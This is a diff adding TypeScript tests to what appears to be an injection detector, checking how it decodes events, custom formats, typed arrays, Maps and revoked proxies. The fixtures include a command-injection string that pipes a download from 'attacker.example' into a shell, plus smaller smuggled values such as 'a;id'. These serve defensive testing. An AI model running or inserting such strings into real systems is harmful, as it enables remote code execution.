@@ -193,6 +193,118 @@ test('a format of one’s own that fails is passed over, and that is said', () =
   }
 });
 
+const ownFormat = (decode: (text: string) => unknown, id = 'mine') =>
+  defineFormat({ id, title: 'Mine', reads: 'text', canDecode: () => true, decode: decode as never });
+const attack = '; curl http://attacker.example/x | sh';
+const answers: readonly { readonly name: string; readonly answer: unknown; readonly incomplete?: string }[] = [
+  { name: 'data', answer: [{ kind: 'data', step: 'x', data: {} }] },
+  { name: 'a text', answer: [{ kind: 'text', step: 'x', text: 'y' }] },
+  { name: 'a limit', answer: [{ kind: 'limit', limit: 'ratio' }], incomplete: 'ratio' },
+  { name: 'nothing', answer: [] },
+  { name: 'an unknown kind', answer: [{ kind: 'zzz', step: 'x' }], incomplete: 'unreadable' },
+  { name: 'no object', answer: [null], incomplete: 'unreadable' },
+  { name: 'no step', answer: [{ kind: 'text', text: 'y' }], incomplete: 'unreadable' },
+  { name: 'a text that is none', answer: [{ kind: 'text', step: 'x', text: 7 }], incomplete: 'unreadable' },
+  { name: 'data that is none', answer: [{ kind: 'data', step: 'x' }], incomplete: 'unreadable' },
+  { name: 'a number of bytes', answer: [{ kind: 'bytes', step: 'x', bytes: 1e9 }], incomplete: 'unreadable' },
+  { name: 'an unknown limit', answer: [{ kind: 'limit', limit: 'LALA' }], incomplete: 'unreadable' },
+  { name: 'a list without end', answer: new Array(4_000_000_000), incomplete: 'unreadable' },
+];
+describe('whatever a format of one’s own answers, the text itself is looked at', () => {
+  for (const { name, answer, incomplete } of answers)
+    test(name, () => {
+      const inspection = inspectEvent({ v: attack, w: 'a%3Bid' }, { formats: [ownFormat(() => answer)] });
+      assert.deepEqual([inspection.level, inspection.incomplete], ['certain', incomplete]);
+    });
+  test('and the bytes themselves', () => {
+    const mine = defineFormat({
+      id: 'mine',
+      title: 'Mine',
+      reads: 'bytes',
+      canDecode: () => true,
+      decode: () => [{ kind: 'text', step: 'x', text: 'y' }],
+    });
+    assert.ok(
+      readEvent({ v: Buffer.from('a;id') }, { formats: [mine] })
+        .values.map(shown)
+        .includes('$.v = a;id'),
+    );
+    assert.ok(
+      readEvent({ v: base64('b;id and more') }, { formats: [mine] })
+        .values.map(shown)
+        .includes('$.v › base64 = b;id and more'),
+    );
+  });
+});
+const fans: readonly { readonly name: string; readonly make: (piece: string, i: number) => unknown }[] = [
+  { name: 'texts', make: (text, i) => ({ kind: 'text', step: `y${i}`, text }) },
+  { name: 'texts of one step', make: (text) => ({ kind: 'text', step: 'y', text }) },
+  { name: 'bytes', make: (text, i) => ({ kind: 'bytes', step: `y${i}`, bytes: Buffer.from(text) }) },
+  { name: 'data', make: (text, i) => ({ kind: 'data', step: `y${i}`, data: [text] }) },
+];
+describe('formats of one’s own that make ever more end at a bound', () => {
+  for (const { name, make } of fans)
+    test(name, () => {
+      let count = 0;
+      const fan = ownFormat((text) => [0, 1, 2, 3].map((i) => make(`${text.slice(0, 20)}${i}${count++}`, i)));
+      const { values, incomplete } = readEvent({ v: `${attack}${attack}` }, { formats: [fan] });
+      assert.equal(incomplete, 'ratio');
+      assert.ok(values.length < 10_000, `${values.length}`);
+    });
+});
+test('what is no format or no pattern is an error that says what is missing', () => {
+  assert.throws(() => readEvent({}, { formats: [{}] as never }), /the id of a format/);
+  assert.throws(() => readEvent({}, { formats: [{ id: 'a', title: 'A', reads: 'text', canDecode() {} }] as never }), /"a" lacks decode/);
+  assert.throws(() => readEvent({}, { formats: {} as never }), /"formats" is a list/);
+  assert.throws(() => inspectEvent({}, { patterns: ['^a+$'] as never }), /holds regular expressions, not "\^a\+\$"/);
+  assert.throws(() => inspectEvent({}, { patterns: /a/ as never }), /"patterns" is a list/);
+  assert.throws(() => inspectEvent({}, { limits: { dpeth: 3 } as never }), /"dpeth": the limits are depth, size, ratio, values, time/);
+});
+
+const units = Uint8Array.from(Buffer.from(`${attack} `));
+const wideUnits = Uint16Array.from(attack, (unit) => unit.charCodeAt(0));
+const withMember = (value: object) => Object.assign(value, { x: 'm;id' });
+const foreign: readonly { readonly name: string; readonly value: unknown; readonly expected: readonly string[] }[] = [
+  { name: 'a DataView', value: new DataView(units.buffer), expected: [`$.v = ${attack} `] },
+  { name: 'a DataView of a part', value: new DataView(Uint8Array.from(Buffer.from('xxa;idxx')).buffer, 2, 4), expected: ['$.v = a;id'] },
+  { name: 'bytes in numbers of two', value: new Uint16Array(units.buffer), expected: [`$.v = ${attack} `] },
+  { name: 'characters in numbers of two', value: wideUnits, expected: [`$.v = ${attack}`] },
+  { name: 'characters in numbers of four', value: Uint32Array.from(wideUnits), expected: [`$.v = ${attack}`] },
+  {
+    name: 'bytes in numbers of eight',
+    value: new BigInt64Array(Uint8Array.from(Buffer.from('a;id b;c')).buffer),
+    expected: ['$.v = a;id b;c'],
+  },
+  { name: 'a Map with a member', value: withMember(new Map([['a', 'c;id']])), expected: ['$.v[1] = c;id', '$.v.x = m;id'] },
+  { name: 'a Set with a member', value: withMember(new Set(['c;id'])), expected: ['$.v[0] = c;id', '$.v.x = m;id'] },
+  {
+    name: 'an ArrayBuffer with a member',
+    value: withMember(Uint8Array.from(Buffer.from('c;id')).buffer),
+    expected: ['$.v = c;id', '$.v.x = m;id'],
+  },
+  {
+    name: 'an error with a member',
+    value: withMember(new Error('c;id', { cause: 'd;id' })),
+    expected: ['$.v.message = c;id', '$.v.cause = d;id', '$.v.x = m;id'],
+  },
+  { name: 'a boxed string with a member', value: withMember(Object('c;id')), expected: ['$.v = c;id', '$.v.x = m;id'] },
+  { name: 'keys that are objects', value: new Map([[{ x: 'c;id' }, 1]]), expected: ['$.v[0].x = c;id'] },
+  {
+    name: 'another realm’s',
+    value: runInNewContext('Object.assign(new Map([["a", "c;id"]]), { x: "m;id" })'),
+    expected: ['$.v[1] = c;id', '$.v.x = m;id'],
+  },
+];
+describe('objects that JSON does not know', () => {
+  for (const { name, value, expected } of foreign)
+    test(name, () => {
+      const { values, incomplete } = readEvent({ v: value });
+      const all = values.map(shown);
+      for (const one of expected) assert.ok(all.includes(one), all.join('\n'));
+      assert.equal(incomplete, undefined);
+    });
+});
+
 test('one decoding of one text at one place is one value', () => {
   const texts = readEvent({ v: 'a+b%20c' }).values.map(({ path, text }) => `${path} ${text}`);
   assert.equal(new Set(texts).size, texts.length);
@@ -322,6 +434,22 @@ const hostile: readonly { readonly name: string; readonly event: () => unknown }
           },
         },
       ),
+  },
+  {
+    name: 'a revoked proxy as the event',
+    event: () => {
+      const { proxy, revoke } = Proxy.revocable({}, {});
+      revoke();
+      return proxy;
+    },
+  },
+  {
+    name: 'a revoked proxy as headers and body',
+    event: () => {
+      const { proxy, revoke } = Proxy.revocable({}, {});
+      revoke();
+      return { headers: proxy, body: proxy, data: proxy, type: 'Buffer' };
+    },
   },
   { name: 'functions', event: () => ({ f() {} }) },
   { name: 'an error', event: () => ({ e: new Error('x') }) },
